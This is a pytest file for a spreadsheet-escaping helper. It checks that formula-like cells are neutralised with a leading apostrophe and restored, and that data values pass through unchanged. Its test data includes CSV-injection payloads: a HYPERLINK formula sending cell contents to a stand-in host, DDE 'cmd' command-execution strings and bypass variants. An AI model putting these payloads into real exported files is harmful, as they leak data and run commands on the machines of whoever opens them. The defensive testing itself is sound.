"""Cells that a spreadsheet would run leave as text, and come back as they were; data are not touched."""

from __future__ import annotations

import pytest

from catalog.spreadsheet import plain_cell, safe_cell

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1)',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-WEBSERVICE(A1)",
    "\t=1+1",
    "＝1+1",
)
DATA = ("-1.5", "+3e-05", "-0.238{1}-0.5{2}", "-0.5;-2.1", "-0.1|0.2", "-", "+", "-;-;+", "-/ATG", "-|A", "a=b", "'")


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_becomes_text_and_comes_back(cell: str) -> None:
    assert safe_cell(cell) == f"'{cell}"
    assert plain_cell(safe_cell(cell)) == cell


@pytest.mark.parametrize("cell", [*DATA, "'tis"])
def test_data_stay_as_they_are(cell: str) -> None:
    assert safe_cell(cell) == plain_cell(cell) == cell
